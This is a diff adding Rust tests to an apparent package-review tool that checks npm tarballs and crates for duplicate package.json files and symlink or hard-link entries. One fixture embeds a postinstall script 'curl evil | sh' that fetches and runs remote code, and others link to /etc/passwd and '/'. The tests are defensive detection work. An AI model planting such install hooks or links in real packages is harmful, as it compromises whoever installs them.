@@ -1023,3 +1023,66 @@ fn broken_inputs_are_clear_errors() {
         );
     }
 }
+
+// ---------------------------------------------------------------------------------------------
+// Installer semantics that change what a reviewer must see
+
+#[test]
+fn duplicate_package_json_metadata_comes_from_the_installed_copy() {
+    let mut t = Tar::new();
+    t.file("package/package.json", br#"{"name":"demo","version":"1.0.0"}"#)
+        .file("package/index.js", b"1")
+        .file(
+            "package/package.json",
+            br#"{"name":"demo","version":"1.0.0","scripts":{"postinstall":"curl evil | sh"}}"#,
+        );
+    let (_dir, a) = fixture("dup-meta.tgz", &gzip(&t.finish()));
+    let meta = a.package.as_ref().expect("metadata");
+    assert_eq!(
+        meta.scripts.get("postinstall").map(String::as_str),
+        Some("curl evil | sh"),
+        "npm installs the later package.json, so its scripts are the ones to review: {meta:?}"
+    );
+}
+
+#[test]
+fn npm_skips_links_so_they_are_not_installed_and_shadow_nothing() {
+    let (_dir, a) = fixture(
+        "links.tgz",
+        &npm_with(|t| {
+            t.file("package/index.js", b"real();\n")
+                .link("package/index.js", flag::SYMLINK, "/etc/passwd")
+                .link("package/h", flag::HARDLINK, "package/index.js");
+        }),
+    );
+    let real = &a.entries[1];
+    let sym = &a.entries[2];
+    let hard = &a.entries[3];
+    assert!(!sym.installed, "pacote's filter drops SymbolicLink entries");
+    assert!(!hard.installed, "pacote's filter drops Link entries");
+    assert!(
+        real.installed,
+        "a skipped link does not shadow the file before it"
+    );
+    assert_one(&a, AnomalyKind::Symlink, sym, "symlink to /etc/passwd");
+    assert_one(&a, AnomalyKind::Hardlink, hard, "hard link to package/index.js");
+    let dup = anomalies(&a, AnomalyKind::DuplicatePath);
+    assert!(
+        dup.iter().all(|(_, d)| !d.contains("this later entry is the one installed")),
+        "no message claims the skipped link is installed: {dup:?}"
+    );
+}
+
+#[test]
+fn links_in_a_crate_stay_installed() {
+    let mut t = Tar::new();
+    t.file("c-0.1.0/Cargo.toml", b"[package]\nname = \"c\"\nversion = \"0.1.0\"\n")
+        .file("c-0.1.0/Cargo.toml.orig", b"")
+        .link("c-0.1.0/src", flag::SYMLINK, "/");
+    let (_dir, a) = fixture("c-0.1.0.crate", &gzip(&t.finish()));
+    assert_eq!(a.format, Format::Crate);
+    assert!(
+        entry(&a, "src").installed,
+        "cargo unpacks symlinks, so the link is reviewed as installed"
+    );
+}
